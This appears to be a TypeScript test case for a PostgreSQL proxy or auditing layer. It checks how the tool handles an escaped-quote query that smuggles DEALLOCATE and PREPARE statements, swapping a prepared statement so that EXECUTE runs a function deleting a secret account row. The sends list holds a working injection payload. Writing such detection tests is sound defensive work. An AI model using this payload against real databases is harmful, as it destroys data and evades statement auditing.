import { parse, sync } from '../../support/messages.js'
import { accounts_left, type Trick } from '../trick.js'

export const trick: Trick = {
  why: 'Where the grammar sees a literal a name is dropped and made anew, and answers with the old tag.',
  startup: { options: '-c standard_conforming_strings=off' },
  setup: [
    'CREATE FUNCTION public.harm() RETURNS int LANGUAGE sql AS $$DELETE FROM secret.account WHERE id = 1; SELECT 1$$',
  ],
  sends: [
    { send: [parse('p', 'SELECT 1'), sync()] },
    "SELECT '\\''; DEALLOCATE p; PREPARE p AS SELECT public.harm() --'",
    'EXECUTE p',
  ],
  effect: [[accounts_left, '2']],
  trail: [
    { class: 'READ' },
    { class: 'WRITE', command: 'DEALLOCATE' },
    { class: 'WRITE', command: 'PREPARE' },
    { class: 'WRITE', analysis: 'ambiguous' },
    { class: 'READ', outcome: 'prepared' },
  ],
  events: ['protocol disagreement'],
}
